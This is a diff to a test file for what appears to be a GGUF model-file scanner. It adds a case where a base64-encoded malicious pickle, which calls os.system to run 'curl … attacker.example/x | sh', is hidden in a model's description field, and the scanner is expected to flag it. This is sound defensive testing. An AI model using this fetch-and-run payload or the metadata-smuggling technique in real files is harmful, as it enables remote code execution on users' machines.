@@ -7,6 +7,10 @@ import { readFileSync } from 'node:fs';
 import type { RuleCase, RuleCases } from '../../rules/index.js';
 import { ruleCases } from '../../rules/index.js';
 import { benignGguf, ggufFile } from '../../../test-fixtures/gguf-builder.js';
+import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
+
+const EVIL_B64 = Buffer.from(pickle((b) => b.proto(2).global('os', 'system').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop())).toString('base64');
+
 
 const REAL = new URL('../../../test-fixtures/real/', import.meta.url);
 const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL));
@@ -14,6 +18,16 @@ const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL
 const REAL_GGUF: RuleCase = { name: 'real GGUF with a Llama 3 chat template (gguf-py)', files: { 'model.gguf': real('tiny-chat.gguf') } };
 
 export const GGUF_RULE_CASES: readonly RuleCases[] = [
+  ruleCases('gguf/embedded-object', {
+    valid: [REAL_GGUF],
+    invalid: [
+      {
+        name: 'a base64 pickle in general.description',
+        files: { 'model.gguf': () => benignGguf(undefined, { kv: [['general.architecture', { type: 'string', value: 'llama' }], ['general.description', { type: 'string', value: EVIL_B64 }]] }) },
+        expect: { severity: 'medium', messageIncludes: 'base64-encoded pickle' },
+      },
+    ],
+  }),
   ruleCases('gguf/chat-template-injection', {
     valid: [REAL_GGUF],
     invalid: [
